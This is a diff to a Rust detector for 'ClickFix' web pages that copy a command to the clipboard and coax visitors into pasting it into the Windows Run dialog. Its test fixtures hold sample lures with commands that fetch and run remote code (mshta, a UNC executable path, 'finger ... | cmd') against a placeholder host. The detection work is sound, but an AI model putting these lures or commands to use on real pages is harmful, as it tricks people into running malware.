@@ -153,6 +153,10 @@ fn copies_command(part: &Part, page: &Page, findings: &mut Findings) {
             None if lure.is_some() => code.of_manuals().map(|value| (Severity::High, value)),
             None => code.of_manuals().map(|value| (Severity::Medium, value)),
         };
+        // A verification that ends in the Run dialog is none, whatever is pasted there.
+        let talked = || lure.as_ref().filter(|lure| lure.sure && lure.pretext && lure.keys);
+        let strong = found.as_ref().is_some_and(|(severity, _)| *severity == Severity::High);
+        let found = if strong { found } else { talked().map(|lure| (Severity::High, lure.words.clone())).or(found) };
         if let Some((severity, value)) = found {
             let message = "the page copies a command to the clipboard, for people to paste and run";
             let mut found = finding(CLICK_FIX, severity, message, &value).technique("T1204.004");
@@ -232,6 +236,21 @@ mod tests {
                 "<button onclick=\"navigator.clipboard.writeText('mshta https://host.invalid/a')\">x</button>",
                 &[COPIES],
             ),
+            (
+                "html",
+                "To verify you are human press Win+R, Ctrl+V and Enter <script>navigator.clipboard.writeText('winget x')</script>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "Press Win+R <script>navigator.clipboard.writeText('\\\\\\\\host.invalid\\\\s\\\\a.exe')</script>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "Press Win+R <script>navigator.clipboard.writeText('finger a@host.invalid | cmd')</script>",
+                &[COPIES],
+            ),
             ("html", "<script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtYyBlY2hv'))</script>", &[COPIES]),
             (
                 "html",
@@ -264,6 +283,11 @@ mod tests {
                 "html",
                 "<p>Use <code>atob('WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS')</code>, new Blob( and a.download = in JavaScript; ms-msdt: and search-ms:query=a&crumb=b are handlers.</p>",
             ),
+            (
+                "html",
+                "<p>Press Win+R, type winver, paste it with Ctrl+V</p><script>navigator.clipboard.writeText(code.innerText)</script>",
+            ),
+            ("html", "<p>Point a finger at a@host.invalid</p><script>navigator.clipboard.writeText(mail)</script>"),
             ("html", "<p>Press Win+R, run cmd /c dir</p><pre>powershell -c echo</pre>"),
             (
                 "html",
